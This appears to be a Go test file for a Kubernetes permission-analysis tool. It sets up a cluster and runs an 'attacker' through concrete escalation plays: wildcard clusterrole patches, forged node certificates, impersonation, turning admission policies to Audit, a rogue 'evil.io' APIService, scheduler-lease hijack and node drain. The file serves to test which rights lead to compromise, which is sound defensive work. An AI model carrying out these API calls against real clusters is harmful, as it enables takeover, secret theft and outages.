package path

import (
	"crypto/x509/pkix"
	"errors"
	"fmt"
	"net/http"
	"strings"

	"github.com/plimsoll/plimsoll/internal/read/kube"
)

type object = map[string]any

func labelled(name, key, value string) object {
	return object{"metadata": object{"name": name, "labels": object{key: value}}}
}

const (
	system    = "/api/v1/namespaces/kube-system"
	kinds     = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"
	notRoot   = "!has(object.spec.volumes) && !has(object.spec.hostPID) && object.spec.containers.all(c, !has(c.securityContext) || !has(c.securityContext.privileged) && !has(c.securityContext.capabilities))"
	slicesOf  = "/apis/discovery.k8s.io/v1/namespaces/"
	snapshots = "snapshot.storage.k8s.io"
)

// standing makes what is done something to.
func standing(must func(method, path string, body any)) {
	captains := bindingTo("captains", "")
	captains["subjects"] = []any{object{"kind": "Group", "apiGroup": rbacGroup, "name": "captains"}}
	must(http.MethodPost, access+"/clusterrolebindings", captains)
	must(http.MethodPost, "/api/v1/namespaces", object{"metadata": meta("hooks")})
	must(http.MethodPost, "/api/v1/namespaces", labelled("guarded", "guarded", "yes"))
	must(http.MethodPost, "/api/v1/namespaces", labelled("gpu", "resource.kubernetes.io/admin-access", "true"))
	for _, ns := range []string{"guarded", "gpu"} {
		must(http.MethodPost, "/api/v1/namespaces/"+ns+"/serviceaccounts", object{"metadata": meta("plain")})
	}
	must(http.MethodPost, "/api/v1/namespaces/vault/serviceaccounts", object{"metadata": object{"name": "paid", "annotations": object{"eks.amazonaws.com/role-arn": "arn:aws:iam::1:role/paid"}}})
	must(http.MethodPost, access+"/namespaces/vault/roles", object{"metadata": meta("reader"), "rules": []any{object{"verbs": []any{"list"}, "apiGroups": []any{""}, "resources": []any{"secrets"}}}})
	must(http.MethodPost, access+"/namespaces/kube-system/roles", object{"metadata": meta("kubeadm:nodes-kubeadm-config"), "rules": []any{}})
	for _, name := range []string{"coredns", "kube-proxy", "aws-auth", "kubeadm-config"} {
		must(http.MethodPost, system+"/configmaps", object{"metadata": meta(name)})
	}
	for kind, name := range map[string]string{"deployments": "coredns", "daemonsets": "kube-proxy"} {
		must(http.MethodPost, "/apis/apps/v1/namespaces/kube-system/"+kind, workloadOf(name))
	}
	must(http.MethodPost, "/apis/apps/v1/namespaces/kube-system/daemonsets", workloadOf("aws-node"))
	must(http.MethodPost, "/apis/networking.k8s.io/v1/namespaces/vault/networkpolicies", object{"metadata": meta("deny"), "spec": object{"podSelector": object{}}})
	must(http.MethodPost, "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases", object{"metadata": meta("kube-scheduler"), "spec": object{"holderIdentity": "a"}})
	must(http.MethodPost, "/api/v1/namespaces/vault/services", object{"metadata": meta("front"), "spec": object{"type": "LoadBalancer", "ports": []any{object{"port": 53}}}})
	must(http.MethodPost, registration+"/validatingwebhookconfigurations", object{"metadata": meta("guard"), "webhooks": []any{object{
		"name": "a.b.c", "admissionReviewVersions": []any{"v1"}, "sideEffects": "None", "failurePolicy": "Ignore", "clientConfig": object{"service": object{"namespace": "hooks", "name": "hook"}},
		"rules": []any{object{"apiGroups": []any{"none.io"}, "apiVersions": []any{"v1"}, "operations": []any{"CREATE"}, "resources": []any{"nothings"}}},
	}}})
	for _, kind := range [][3]string{
		{"kyverno.io", "policyexceptions", "PolicyException"}, {snapshots, "volumesnapshots", "VolumeSnapshot"}, {snapshots, "volumesnapshotcontents", "VolumeSnapshotContent"},
	} {
		scope := "Namespaced"
		if strings.HasSuffix(kind[1], "contents") {
			scope = "Cluster"
		}
		must(http.MethodPost, kinds, object{"metadata": object{"name": kind[1] + "." + kind[0], "annotations": object{"api-approved.kubernetes.io": "unapproved, for a test"}}, "spec": object{
			"group": kind[0], "scope": scope, "names": object{"plural": kind[1], "singular": strings.ToLower(kind[2]), "kind": kind[2]},
			"versions": []any{object{"name": "v1", "served": true, "storage": true, "schema": object{"openAPIV3Schema": object{"type": "object", "x-kubernetes-preserve-unknown-fields": true}}}},
		}})
	}
	must(http.MethodPost, registration+"/validatingadmissionpolicies", object{"metadata": meta("no-root"), "spec": object{
		"matchConstraints": object{"resourceRules": []any{object{"apiGroups": []any{""}, "apiVersions": []any{"v1"}, "operations": []any{"CREATE"}, "resources": []any{"pods"}}}},
		"validations":      []any{object{"expression": notRoot, "message": "no root"}},
	}})
	must(http.MethodPost, registration+"/validatingadmissionpolicybindings", object{"metadata": meta("no-root"), "spec": object{
		"policyName": "no-root", "validationActions": []any{"Deny"}, "matchResources": object{"namespaceSelector": object{"matchLabels": object{"guarded": "yes"}}},
	}})
}

func workloadOf(name string) object {
	labels := object{"a": name}
	return object{"metadata": meta(name), "spec": object{"selector": object{"matchLabels": labels}, "template": object{"metadata": object{"labels": labels}, "spec": podAs("", "default", nil)["spec"]}}}
}

// forbids asks the API server itself, which makes nothing of it.
func (a *attacker) forbids(pod *kube.Object) (by []Denial) {
	err := a.until(func() error {
		_, err := a.ask(http.MethodPost, "/api/v1/namespaces/"+pod.Namespace+"/pods?dryRun=All", pod.Fields)
		by = nil
		if err == nil || strings.Contains(err.Error(), "PodSecurity") {
			return nil
		}
		if strings.Contains(err.Error(), "ValidatingAdmissionPolicy 'no-root' with binding 'no-root' denied request") {
			by = []Denial{{"no-root", "no-root"}}
			return nil
		}
		if strings.Contains(err.Error(), "not found") { // the account default, or the namespace is new, or ends
			return nil
		}
		return err
	})
	if err != nil {
		a.t.Fatalf("whether a pod may be made: %v", err)
	}
	return by
}

// plainly is a play that is one call.
func plainly(to string, rules []string, method, path string, body func(user string) any) play {
	return play{rules, to, func(a *attacker, user string) error {
		var sent any
		if body != nil {
			sent = body(user)
		}
		_, err := a.ask(method, path, sent)
		return err
	}}
}

func configMap(name, to string) play {
	return plainly(to, []string{rule("patch", "", "configmaps", name)}, http.MethodPatch, system+"/configmaps/"+name, func(user string) any { return object{"data": object{"by": user}} })
}

func slice(user string) any {
	return object{"metadata": meta(user), "addressType": "IPv4", "endpoints": []any{object{"addresses": []any{"10.9.8.7"}}}, "ports": []any{}}
}

func privilegedIn(a *attacker, namespace, user string) error {
	_, err := a.ask(http.MethodPost, "/api/v1/namespaces/"+namespace+"/pods", podAs(user, "plain", object{"hostPID": true}))
	return err
}

// playsAround are those of what stands around others, and of what was made for names and other's rights.
func playsAround() map[string]play {
	vault := "/api/v1/namespaces/vault"
	patch := func(to string, rules []string, path string, body any) play {
		return plainly(to, rules, http.MethodPatch, path, func(string) any { return body })
	}
	return map[string]play{
		"escalate-named": {[]string{rule("escalate,patch", rbacGroup, "clusterroles", "user-escalate-named")}, ToAdmin, func(a *attacker, _ string) error {
			if _, err := a.ask(http.MethodPatch, access+"/clusterroles/user-escalate-named", object{"rules": wildcard}); err != nil {
				return err
			}
			return a.until(a.master)
		}},
		"bind-role": {[]string{rule("bind", rbacGroup, "roles"), rule("create", rbacGroup, "rolebindings")}, "secrets:vault", func(a *attacker, user string) error {
			b := bindingTo("mine", user)
			b["roleRef"] = object{"apiGroup": rbacGroup, "kind": "Role", "name": "reader"}
			if _, err := a.ask(http.MethodPost, access+"/namespaces/vault/rolebindings", b); err != nil {
				return err
			}
			return a.until(func() error { _, err := a.ask(http.MethodGet, vault+"/secrets", nil); return err })
		}},
		"node-certificate": {[]string{
			rule("create,get", csrGroup, "certificatesigningrequests"), rule("update", csrGroup, "certificatesigningrequests/approval"), rule("approve", csrGroup, "signers", "kubernetes.io/kube-apiserver-client-kubelet"),
		}, ToAdmin, func(a *attacker, user string) error {
			of := pkix.Name{CommonName: "system:node:n1", Organization: []string{"system:nodes"}}
			return a.certificate(user, "kubernetes.io/kube-apiserver-client-kubelet", of, func(a *attacker) error {
				got, err := a.ask(http.MethodPost, "/apis/authentication.k8s.io/v1/selfsubjectreviews", object{})
				if err == nil && !strings.Contains(fmt.Sprint(got), "username:system:node:n1") {
					err = fmt.Errorf("it is %v", got)
				}
				return err
			})
		}},
		"steer": {[]string{rule("patch", "", "nodes"), rule("create", "", "pods")}, ToAdmin, func(a *attacker, user string) error {
			if _, err := a.ask(http.MethodPatch, "/api/v1/nodes/n1", object{"spec": object{"taints": []any{object{"key": "a", "effect": "NoExecute"}}}}); err != nil {
				return err
			}
			_, err := a.ask(http.MethodPost, vault+"/pods", podAs(user, "master", object{"hostPID": true, "nodeName": "n2"}))
			return err
		}},
		"constrained": {[]string{rule("impersonate:serviceaccount", authenticationGroup, "serviceaccounts"), rule("impersonate-on:serviceaccount:list", "", "secrets")}, "secrets:vault", func(a *attacker, _ string) error {
			as := a.as("Impersonate-User", "system:serviceaccount:vault:master")
			if _, err := as.ask(http.MethodGet, vault+"/pods", nil); !errors.Is(err, errForbidden) {
				return fmt.Errorf("it may do more than it was given: %v", err)
			}
			_, err := as.ask(http.MethodGet, vault+"/secrets", nil)
			return err
		}},
		"constrained-group": {[]string{rule("impersonate:user-info", authenticationGroup, "users,groups"), rule("impersonate-on:user-info:patch", rbacGroup, "clusterroles")}, ToAdmin, func(a *attacker, _ string) error {
			as := a.as("Impersonate-User", "nobody", "Impersonate-Group", "captains")
			if _, err := as.ask(http.MethodPatch, access+"/clusterroles/user-constrained-group", object{"rules": wildcard}); err != nil {
				return err
			}
			return a.until(a.master)
		}},
		"unguard": {[]string{rule("patch", registrations, "validatingadmissionpolicybindings", "no-root"), rule("create", "", "pods")}, ToNode, func(a *attacker, user string) error {
			if err := privilegedIn(a, "guarded", user); err == nil {
				return errors.New("no policy holds in the namespace")
			}
			if _, err := a.ask(http.MethodPatch, registration+"/validatingadmissionpolicybindings/no-root", object{"spec": object{"validationActions": []any{"Audit"}}}); err != nil {
				return err
			}
			return a.until(func() error { return privilegedIn(a, "guarded", user) })
		}},
		"admission-off": patch(ToPolicies, []string{rule("patch", registrations, "validatingwebhookconfigurations", "guard")}, registration+"/validatingwebhookconfigurations/guard", object{"webhooks": []any{object{"name": "a.b.c", "timeoutSeconds": 1}}}),
		"exempt": plainly(ToPolicies, []string{rule("create", "kyverno.io", "policyexceptions")}, http.MethodPost, "/apis/kyverno.io/v1/namespaces/vault/policyexceptions", func(user string) any {
			return object{"apiVersion": "kyverno.io/v1", "kind": "PolicyException", "metadata": meta(user)}
		}),
		"relabel-namespace": patch(ToPolicies, []string{rule("patch", "", "namespaces", "vault")}, vault, object{"metadata": object{"labels": object{"a": "b"}}}),
		"webhook-service":   plainly(ToPolicies, []string{rule("create", "discovery.k8s.io", "endpointslices")}, http.MethodPost, slicesOf+"hooks/endpointslices", slice),
		"conversion":        patch(ToPolicies, []string{rule("patch", "apiextensions.k8s.io", "customresourcedefinitions")}, kinds+"/policyexceptions.kyverno.io", object{"spec": object{"conversion": object{"strategy": "Webhook", "webhook": object{"conversionReviewVersions": []any{"v1"}, "clientConfig": object{"url": "https://127.0.0.1:1"}}}}}),
		"external-ip": plainly(ToNetwork, []string{rule("create", "", "services")}, http.MethodPost, vault+"/services", func(user string) any {
			return object{"metadata": meta(user), "spec": object{"externalIPs": []any{"8.8.8.8"}, "ports": []any{object{"port": 53}}}}
		}),
		"balancer-address": patch(ToNetwork, []string{rule("patch", "", "services/status", "front")}, vault+"/services/front/status", object{"status": object{"loadBalancer": object{"ingress": []any{object{"ip": "8.8.8.8"}}}}}),
		"endpoints":        plainly(ToNetwork, []string{rule("create", "discovery.k8s.io", "endpointslices")}, http.MethodPost, slicesOf+"vault/endpointslices", slice),
		"routes": plainly(ToNetwork, []string{rule("create", "networking.k8s.io", "ingresses")}, http.MethodPost, "/apis/networking.k8s.io/v1/namespaces/vault/ingresses", func(user string) any {
			return object{"metadata": meta(user), "spec": object{"defaultBackend": object{"service": object{"name": "a", "port": object{"number": 1}}}}}
		}),
		"isolation-off": patch(ToNetwork, []string{rule("patch", "networking.k8s.io", "networkpolicies", "deny")}, "/apis/networking.k8s.io/v1/namespaces/vault/networkpolicies/deny", object{"spec": object{"ingress": []any{object{}}}}),
		"tunnel": {[]string{rule("create", "", "pods/portforward")}, ToNetwork, func(a *attacker, _ string) error {
			_, err := a.ask(http.MethodPost, vault+"/pods/master/portforward", nil)
			return through(err)
		}},
		"api-service": plainly(ToNetwork, []string{rule("create", "apiregistration.k8s.io", "apiservices")}, http.MethodPost, "/apis/apiregistration.k8s.io/v1/apiservices", func(string) any {
			return object{"metadata": meta("v1.evil.io"), "spec": object{"group": "evil.io", "version": "v1", "groupPriorityMinimum": 1, "versionPriority": 1, "insecureSkipTLSVerify": true, "service": object{"namespace": "vault", "name": "a"}}}
		}),
		"dns":            configMap("coredns", ToNetwork),
		"kube-proxy":     configMap("kube-proxy", ToNetwork),
		"aws-auth":       configMap("aws-auth", ToAdmin),
		"kubeadm-config": configMap("kubeadm-config", ToAdmin),
		"front-proxy":    configMap("extension-apiserver-authentication", ToNetwork),
		"cloud-role": {[]string{rule("patch", "", "serviceaccounts"), rule("create", "", "pods")}, ToCloud, func(a *attacker, user string) error {
			if _, err := a.ask(http.MethodPatch, vault+"/serviceaccounts/master", object{"metadata": object{"annotations": object{"eks.amazonaws.com/role-arn": user}}}); err != nil {
				return err
			}
			_, err := a.ask(http.MethodPost, vault+"/pods", podAs(user, "master", nil))
			return err
		}},
		"kubelet-read": {[]string{rule("get", "", "nodes/log")}, ToLogs, func(a *attacker, _ string) error { // the kubelet asks for it
			return allowed(a.ask(http.MethodPost, "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", object{"spec": object{"resourceAttributes": object{"verb": "get", "resource": "nodes", "subresource": "log", "name": "n1"}}}))
		}},
		"server-read": {[]string{`{"verbs":["get"],"nonResourceURLs":["/debug/*"]}`}, ToLogs, func(a *attacker, _ string) error {
			_, err := a.ask(http.MethodGet, "/debug/pprof/cmdline", nil)
			return through(err) // what it answers is no JSON
		}},
		"clone": {[]string{rule("create", snapshots, "volumesnapshotcontents,volumesnapshots"), rule("create", "", "persistentvolumeclaims,pods")}, ToData, func(a *attacker, user string) error {
			for _, made := range [][2]string{{"volumesnapshotcontents", "VolumeSnapshotContent"}, {"namespaces/vault/volumesnapshots", "VolumeSnapshot"}} {
				if _, err := a.ask(http.MethodPost, "/apis/"+snapshots+"/v1/"+made[0], object{"apiVersion": snapshots + "/v1", "kind": made[1], "metadata": meta(user)}); err != nil {
					return err
				}
			}
			_, err := a.ask(http.MethodPost, vault+"/persistentvolumeclaims", object{"metadata": meta(user), "spec": object{"accessModes": []any{"ReadWriteOnce"}, "resources": object{"requests": object{"storage": "1Gi"}}, "dataSource": object{"apiGroup": snapshots, "kind": "VolumeSnapshot", "name": user}}})
			if err == nil {
				_, err = a.ask(http.MethodPost, vault+"/pods", podAs(user, "master", object{"volumes": []any{object{"name": "v", "persistentVolumeClaim": object{"claimName": user}}}}))
			}
			return err
		}},
		"device": {[]string{rule("create", "resource.k8s.io", "resourceclaims"), rule("create", "", "pods")}, ToData, func(a *attacker, user string) error {
			claim := object{"metadata": meta(user), "spec": object{"devices": object{"requests": []any{object{"name": "all", "exactly": object{"deviceClassName": "gpu", "adminAccess": true}}}}}}
			_, err := a.ask(http.MethodPost, "/apis/resource.k8s.io/v1/namespaces/gpu/resourceclaims", claim)
			if err == nil {
				_, err = a.ask(http.MethodPost, "/api/v1/namespaces/gpu/pods", podAs(user, "plain", object{"resourceClaims": []any{object{"name": "c", "resourceClaimName": user}}}))
			}
			return err
		}},
		"drain": patch(ToOutage, []string{rule("patch", "", "nodes", "n1")}, "/api/v1/nodes/n1", object{"spec": object{"unschedulable": true}}),
		"preempt": {[]string{rule("create", "scheduling.k8s.io", "priorityclasses"), rule("create", "", "pods")}, ToOutage, func(a *attacker, user string) error {
			_, err := a.ask(http.MethodPost, "/apis/scheduling.k8s.io/v1/priorityclasses", object{"metadata": meta(user), "value": 999999999})
			if err == nil {
				err = a.until(func() error {
					_, err := a.ask(http.MethodPost, vault+"/pods", podAs(user, "master", object{"priorityClassName": user}))
					return err
				})
			}
			return err
		}},
		"lease": patch(ToOutage, []string{rule("patch", "coordination.k8s.io", "leases", "kube-scheduler")}, "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-scheduler", object{"spec": object{"holderIdentity": "me"}}),
	}
}
